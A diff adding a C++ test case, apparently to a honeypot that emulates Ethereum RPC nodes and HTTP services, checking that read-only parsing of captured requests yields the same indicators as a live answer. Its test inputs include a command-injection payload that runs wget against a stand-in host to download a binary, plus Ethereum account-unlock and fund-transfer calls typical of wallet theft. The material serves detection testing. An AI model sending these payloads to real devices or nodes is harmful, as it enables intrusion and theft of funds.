@@ -174,6 +174,39 @@ TEST_CASE("the Ethereum node answers the recon, unlock and send steps", "[emulat
   CHECK(x.turn.indicators[0].kind == indicator_kind::eth_etherbase);
 }
 
+TEST_CASE(
+    "requests read as they pass give the steps and indicators an answer would, and no "
+    "answer",
+    "[emulation]") {
+  const emulation_plan plan = test_plan();
+  const std::pair<emulated_protocol, std::string> requests[] = {
+      {emulated_protocol::ethereum,
+       post(R"([{"id":1,"method":"eth_accounts"},{"id":2,"method":"eth_sendTransaction",)"
+            R"("params":[{"from":"0x407d73d8a49eeb85d32cf465507dd71d507100c1",)"
+            R"("to":"0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd"}]},{"id":3,"method":"nope"}])")},
+      {emulated_protocol::ethereum,
+       post(R"({"id":4,"method":"personal_unlockAccount","params":["0x1","pw",0]})")},
+      {emulated_protocol::http,
+       "POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
+       "`cd /var; wget http://192.0.2.66/m -O m`"},
+      {emulated_protocol::ethereum, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}};
+  for (const auto& [protocol, request] : requests) {
+    CAPTURE(request);
+    const exchange answered = ask(plan, protocol, request);
+    emulation_context context{&plan, t0, 42, 0};
+    context.read_only = true;
+    std::string unused(max_answer_data, '\0');
+    const emulation_turn read =
+        emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
+                        request.size(), reinterpret_cast<uint8_t*>(unused.data()));
+    CHECK(answered.turn.answer_length > 0);
+    CHECK(read.answer_length == 0);
+    CHECK(read.consumed == answered.turn.consumed);
+    CHECK(read.steps == answered.turn.steps);
+    CHECK(indicators_of(read) == indicators_of(answered.turn));
+  }
+}
+
 TEST_CASE("a raw transaction's recipient is read from its RLP, of every type", "[emulation]") {
   // Signed by ethers 6 (Wallet.signTransaction, key 0x22..22, nonce 7, value 5).
   const char* legacy =
